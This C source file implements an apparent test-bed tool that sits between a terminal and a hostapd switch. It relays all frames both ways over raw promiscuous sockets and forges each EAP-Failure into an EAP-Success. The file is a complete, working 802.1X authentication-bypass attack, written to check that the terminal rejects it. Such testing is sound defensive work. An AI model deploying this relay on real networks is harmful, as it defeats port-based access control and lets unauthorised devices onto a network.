/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * sdvm-bed-inject: the attack of issue 13 (H1) on the bed's cable. It sits between the
 * terminal's port (sw0, the far end of lab0) and the switch (hostapd, on its own veth pair)
 * and relays every frame both ways, but turns the authenticator's EAP-Failure into an
 * EAP-Success with the same identifier. DHCP keeps working (udhcpd still listens on sw0), so a
 * terminal fooled by the forged success gets an address. Counts go to a file (rewritten
 * atomically after each frame) so a test can check the attack really happened:
 *   relayed N
 *   failures-forged M
 *
 * usage: sdvm-bed-inject TERMINAL_IFACE SWITCH_IFACE COUNTS_FILE
 * Runs until SIGTERM/SIGINT. Test tool only: it exists to show the terminal refuses it.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define ETH_P_EAPOL_ 0x888e
#define EAPOL_EAP_PACKET 0
#define EAP_SUCCESS 3
#define EAP_FAILURE 4

static volatile sig_atomic_t stop;

static void
on_signal(int sig)
{
    (void)sig;
    stop = 1;
}

static int
open_port(const char *ifname, int *ifindex)
{
    unsigned idx = if_nametoindex(ifname);
    if (idx == 0) {
        fprintf(stderr, "sdvm-bed-inject: no interface %s: %s\n", ifname, strerror(errno));
        return -1;
    }
    int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
    if (fd < 0) {
        fprintf(stderr, "sdvm-bed-inject: socket: %s\n", strerror(errno));
        return -1;
    }
    struct sockaddr_ll sll = {
        .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = (int)idx};
    struct packet_mreq mr = {.mr_ifindex = (int)idx, .mr_type = PACKET_MR_PROMISC};
    if (bind(fd, (struct sockaddr *)&sll, sizeof sll) < 0 ||
        setsockopt(fd, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &mr, sizeof mr) < 0) {
        fprintf(stderr, "sdvm-bed-inject: %s: %s\n", ifname, strerror(errno));
        close(fd);
        return -1;
    }
    *ifindex = (int)idx;
    return fd;
}

static void
write_counts(const char *path, unsigned long relayed, unsigned long forged)
{
    char tmp[4096];
    if ((size_t)snprintf(tmp, sizeof tmp, "%s.tmp", path) >= sizeof tmp)
        return;
    FILE *f = fopen(tmp, "w");
    if (!f)
        return;
    fprintf(f, "relayed %lu\nfailures-forged %lu\n", relayed, forged);
    if (fclose(f) == 0)
        rename(tmp, path);
}

/* An EAPOL EAP-Failure from the switch becomes an EAP-Success (same identifier, same
 * length: both are 4-byte EAP packets). */
static int
forge(unsigned char *frame, ssize_t len)
{
    if (len < 14 + 4 + 4)
        return 0;
    unsigned type = ((unsigned)frame[12] << 8) | frame[13];
    if (type != ETH_P_EAPOL_ || frame[15] != EAPOL_EAP_PACKET || frame[18] != EAP_FAILURE)
        return 0;
    frame[18] = EAP_SUCCESS;
    return 1;
}

int
main(int argc, char **argv)
{
    if (argc != 4) {
        fprintf(stderr, "usage: sdvm-bed-inject TERMINAL_IFACE SWITCH_IFACE COUNTS_FILE\n");
        return 2;
    }
    const char *counts = argv[3];
    struct sigaction sa = {.sa_handler = on_signal};
    sigaction(SIGTERM, &sa, NULL);
    sigaction(SIGINT, &sa, NULL);
    int idx[2];
    int fd[2] = {open_port(argv[1], &idx[0]), open_port(argv[2], &idx[1])};
    if (fd[0] < 0 || fd[1] < 0)
        return 1;
    unsigned long relayed = 0, forged = 0;
    write_counts(counts, relayed, forged);
    fprintf(stderr, "sdvm-bed-inject: relaying %s <-> %s\n", argv[1], argv[2]);
    static unsigned char buf[65536];
    while (!stop) {
        struct pollfd p[2] = {{.fd = fd[0], .events = POLLIN}, {.fd = fd[1], .events = POLLIN}};
        if (poll(p, 2, -1) < 0) {
            if (errno == EINTR)
                continue;
            fprintf(stderr, "sdvm-bed-inject: poll: %s\n", strerror(errno));
            return 1;
        }
        for (int s = 0; s < 2; s++) {
            if (!(p[s].revents & POLLIN))
                continue;
            struct sockaddr_ll from;
            socklen_t fl = sizeof from;
            ssize_t n =
                recvfrom(fd[s], buf, sizeof buf, MSG_DONTWAIT, (struct sockaddr *)&from, &fl);
            if (n < 0 || from.sll_pkttype == PACKET_OUTGOING)
                continue; /* our own frames, and udhcpd's replies on sw0 */
            int f = s == 1 && forge(buf, n);
            struct sockaddr_ll to = {
                .sll_family = AF_PACKET, .sll_ifindex = idx[1 - s], .sll_halen = ETH_ALEN};
            memcpy(to.sll_addr, buf, ETH_ALEN);
            if (sendto(fd[1 - s], buf, (size_t)n, 0, (struct sockaddr *)&to, sizeof to) < 0) {
                fprintf(stderr, "sdvm-bed-inject: send: %s\n", strerror(errno));
                continue;
            }
            relayed++;
            if (f) {
                forged++;
                fprintf(stderr, "sdvm-bed-inject: EAP-Failure id %u forged into EAP-Success\n",
                        buf[19]);
            }
            write_counts(counts, relayed, forged);
        }
    }
    close(fd[0]);
    close(fd[1]);
    return 0;
}
